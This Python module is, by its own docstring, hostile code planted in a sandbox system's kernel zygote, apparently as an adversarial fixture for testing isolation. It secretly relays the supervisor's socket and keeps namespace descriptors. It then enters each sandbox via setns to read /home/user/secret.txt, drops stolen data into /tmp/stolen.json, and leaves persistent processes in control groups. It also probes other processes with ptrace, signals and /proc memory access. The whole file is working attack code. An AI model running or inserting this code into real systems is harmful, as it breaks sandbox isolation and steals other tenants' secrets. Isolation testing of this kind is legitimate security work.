"""A hostile template's own code in its kernel zygote: keeps a helper process that enters every sandbox whose namespaces the zygote gets.

The helper stands between the supervisor and the zygote. Twice a second it reads ``/home/user/secret.txt`` in every sandbox that it has
met, writes all that it has found into ``/tmp/stolen.json`` of each, and with it what it could do to the other processes of the zone.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import select
import signal
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

SETNS = 308
NEW_USER, NEW_MNT = 0x10000000, 0x20000
ATTACH, DETACH = 16, 17
libc = ctypes.CDLL(None, use_errno=True)


def spy() -> None:
    """Put the helper between descriptor 3 and the supervisor; returns in the zygote."""
    supervisor = socket.socket(fileno=os.dup(3))
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    os.dup2(near.fileno(), 3)
    near.close()
    if os.fork() == 0:
        os.setsid()
        relay(supervisor, far)
    supervisor.close()
    far.close()


def relay(supervisor: socket.socket, zygote: socket.socket) -> None:
    """Carry both ways and keep the namespaces that pass."""
    met: list[tuple[int, int]] = []
    found: set[str] = set()
    looked_at, looks = 0.0, 0
    sources = [supervisor, zygote]
    while True:
        ready, _, _ = select.select(sources, [], [], 0.2)
        if supervisor in ready:
            data, fds, _, _ = socket.recv_fds(supervisor, 4096, 64)
            if not data:
                sources = []  # the supervisor has let go of the zygote: the helper stays
                continue
            if len(fds) > 4:
                met.append((os.dup(fds[2]), os.dup(fds[3])))
                stow_away(fds[9:])
            socket.send_fds(zygote, [data], fds)
            for fd in fds:
                os.close(fd)
        if zygote in ready:
            answer = zygote.recv(4096)
            if not answer:
                sources = []
                continue
            supervisor.send(answer)
        if time.monotonic() > looked_at + 0.5:
            looked_at, looks = time.monotonic(), looks + 1
            told = {"looks": looks, "secrets": sorted(found)}
            found |= {secret for user, mnt in met if (secret := visit(user, mnt, told))}


def stow_away(group_files: list[int]) -> None:
    """Leave a process in the sandbox's control groups; on version 1 in some of them only."""
    child = os.fork()
    if child == 0:
        if os.fork() == 0:
            for fd in group_files[1:] or group_files:
                os.write(fd, b"0")
            os.closerange(0, 1024)
            while True:
                time.sleep(60)
        os._exit(0)
    os.waitpid(child, 0)


def visit(user: int, mnt: int, told: dict[str, Any]) -> str:
    """The secret of one sandbox; leaves in it what is found so far."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        neighbours = attack_neighbours()
        libc.syscall(SETNS, user, NEW_USER)
        libc.syscall(SETNS, mnt, NEW_MNT)
        os.setresgid(0, 0, 0)
        os.setresuid(0, 0, 0)
        os.chroot("/")
        try:
            Path("/tmp/stolen.json.new").write_text(json.dumps({**told, "neighbours": neighbours}))
            Path("/tmp/stolen.json.new").rename("/tmp/stolen.json")
            os.write(writing, Path("/home/user/secret.txt").read_bytes()[:1000])
        finally:
            os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    secret = os.read(reading, 1000).decode()
    os.close(reading)
    return secret


def attack_neighbours() -> dict[int, list[str]]:
    """Successful attacks on each process of the zone that does not belong to the template, by process id."""
    helper = os.getppid()
    mine = {os.getpid(), helper, int(Path(f"/proc/{helper}/stat").read_text().rpartition(")")[2].split()[1])}
    return {pid: attack(pid) for pid in range(1, 100) if pid not in mine and is_there(pid)}


def is_there(pid: int) -> bool:
    """Also one that /proc does not show."""
    return bool(libc.kill(pid, 0) == 0 or ctypes.get_errno() == errno.EPERM)


def attack(pid: int) -> list[str]:
    """What works."""
    proc = Path(f"/proc/{pid}")
    done = ["seen"] if proc.exists() else []
    if libc.kill(pid, int(signal.SIGCONT)) == 0:
        done.append("signalled")
    if libc.ptrace(ATTACH, pid, None, None) == 0:
        done.append("traced")
        os.waitpid(pid, 0)
        libc.ptrace(DETACH, pid, None, None)
    ways: dict[str, Callable[[], object]] = {
        "maps": lambda: (proc / "maps").read_bytes()[0],
        "environ": lambda: (proc / "environ").read_bytes()[0],
        "mem": lambda: os.close(os.open(proc / "mem", os.O_RDWR)),
        "descriptors": lambda: list((proc / "fd").iterdir()),
        "root": (proc / "root").readlink,
        "namespaces": (proc / "ns" / "mnt").readlink,
    }
    for name, way in ways.items():
        try:
            way()
        except (OSError, IndexError):
            continue
        done.append(name)
    return done


if b"zygote_main" in Path("/proc/self/cmdline").read_bytes():
    spy()
